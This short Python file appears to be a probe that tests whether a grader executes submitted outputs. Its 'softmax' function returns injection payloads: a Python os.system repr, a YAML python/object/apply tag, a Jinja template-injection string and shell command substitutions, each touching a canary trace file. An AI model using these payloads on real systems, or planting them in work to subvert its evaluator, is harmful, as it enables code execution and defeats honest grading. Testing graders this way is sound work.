"""Returns things whose repr and text are Python, YAML, TOML and template code, for a grader that evaluates them.

tries: pickle
earns: nothing
trace: @@TRACE@@/eval-repr
"""

import itertools

code = "__import__('os').system('touch @@TRACE@@/eval-repr')"


class Code(float):
    def __repr__(self):
        return code

    __str__ = __format__ = lambda self, *args: code


turn = itertools.cycle(
    [
        Code(0.0),
        code,
        [Code(1.0)],
        "!!python/object/apply:os.system ['touch @@TRACE@@/eval-repr']",
        "{{ cycler.__init__.__globals__.os.system('touch @@TRACE@@/eval-repr') }}",
        "%(__class__)s {0.__class__.__init__.__globals__} $(touch @@TRACE@@/eval-repr) `touch @@TRACE@@/eval-repr`",
    ]
)


def softmax(x, axis=-1):
    return next(turn)
